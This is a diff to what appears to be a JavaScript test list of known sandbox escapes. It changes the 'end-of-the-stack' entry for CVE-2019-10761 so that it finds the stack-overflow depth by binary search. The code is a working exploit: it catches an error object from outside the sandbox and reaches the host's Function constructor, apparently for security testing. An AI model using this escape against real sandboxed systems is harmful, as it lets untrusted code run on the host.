@@ -6,8 +6,11 @@ module.exports = [
     name: 'end-of-the-stack', advisory: 'CVE-2019-10761', kind: 'VM', against: '3.6.4',
     code: ({ take }) => `let found;
       const fill = (depth) => { if (depth > 0) fill(depth - 1); else Buffer.from('x').toString(); };
-      for (let depth = 1000; depth < 20000 && !found; depth += 3) {
-        try { fill(depth); } catch (e) { if (e.constructor.constructor !== Function) found = e; }
+      const tried = (depth) => { try { fill(depth); return true; } catch (e) { if (e.constructor.constructor !== Function) found ??= e; return false; } };
+      for (let round = 0; round < 10 && !found; round++) {
+        let low = 0, high = 60000;
+        while (low < high) { const middle = (low + high) >> 1; if (tried(middle)) low = middle + 1; else high = middle; }
+        for (let depth = low + 20; depth > low - 200 && depth > 0 && !found; depth--) tried(depth);
       }
       ${take('found.constructor.constructor')}`,
   },
